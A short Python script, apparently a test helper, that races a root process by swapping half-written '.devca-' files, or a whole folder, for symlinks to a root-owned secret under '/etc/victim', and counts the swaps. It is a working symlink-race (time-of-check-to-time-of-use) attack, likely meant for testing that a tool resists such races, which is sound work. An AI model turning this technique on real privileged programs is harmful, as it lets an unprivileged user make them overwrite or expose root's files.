"""Puts links in the way of root, for as long as standard input is open.

`swap.py file FOLDER` swaps half-written files in the folder for links to root's secret; `swap.py folder FOLDER` swaps
the folder for a link to root's folder and back. Says "ready", and at the end how many links it has made.
"""

import os
import sys
import threading

what, folder = sys.argv[1:]
victim = "/etc/victim"
ended = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), ended.set()), daemon=True).start()
print("ready", flush=True)

swaps = 0
while not ended.is_set():
    if what == "folder":
        os.rename(folder, folder + ".away")
        os.symlink(victim, folder)
        swaps += 1
        os.unlink(folder)
        os.rename(folder + ".away", folder)
        continue
    for name in os.listdir(folder):
        if not name.startswith(".devca-"):
            continue
        path = os.path.join(folder, name)
        try:
            os.unlink(path)
            os.symlink(os.path.join(victim, "secret"), path)
            swaps += 1
        except OSError:
            pass  # root was quicker
print(swaps)
